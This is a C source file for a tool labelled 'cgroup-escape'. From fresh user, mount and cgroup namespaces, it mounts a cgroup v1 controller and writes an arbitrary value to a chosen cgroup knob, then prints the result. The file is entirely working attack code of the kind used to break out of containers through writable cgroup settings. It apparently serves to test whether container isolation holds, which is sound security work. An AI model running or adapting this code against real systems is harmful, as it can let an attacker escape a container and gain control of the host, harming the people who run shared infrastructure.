// Attack: from a fresh user + mount + cgroup namespace, mount cgroupfs (v1: `controller`) and write one of
// its knobs at the root of what is visible. Prints what the knob reads afterwards.
// Usage: cgroup-escape CONTROLLER FILE VALUE
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static int put(const char *file, const char *value) {
  int fd = open(file, O_WRONLY);
  if (fd < 0 || write(fd, value, strlen(value)) < 0) {
    printf("write %s: %s\n", file, strerror(errno));
    return -1;
  }
  close(fd);
  return 0;
}

int main(int argc, char **argv) {
  if (argc != 4) return 2;
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) != 0) {
    printf("unshare: %s\n", strerror(errno));
    return 1;
  }
  put("/proc/self/setgroups", "deny");
  put("/proc/self/uid_map", "0 0 1");
  put("/proc/self/gid_map", "0 0 1");
  mkdir("/tmp/cg", 0700);
  if (mount("none", "/tmp/cg", "cgroup", 0, argv[1]) != 0) {
    printf("mount: %s\n", strerror(errno));
    return 1;
  }
  char file[256], buf[64] = {0};
  snprintf(file, sizeof file, "/tmp/cg/%s", argv[2]);
  put(file, argv[3]);
  int fd = open(file, O_RDONLY);
  if (fd >= 0 && read(fd, buf, sizeof buf - 1) > 0) printf("%s now %s", argv[2], buf);
  return 0;
}
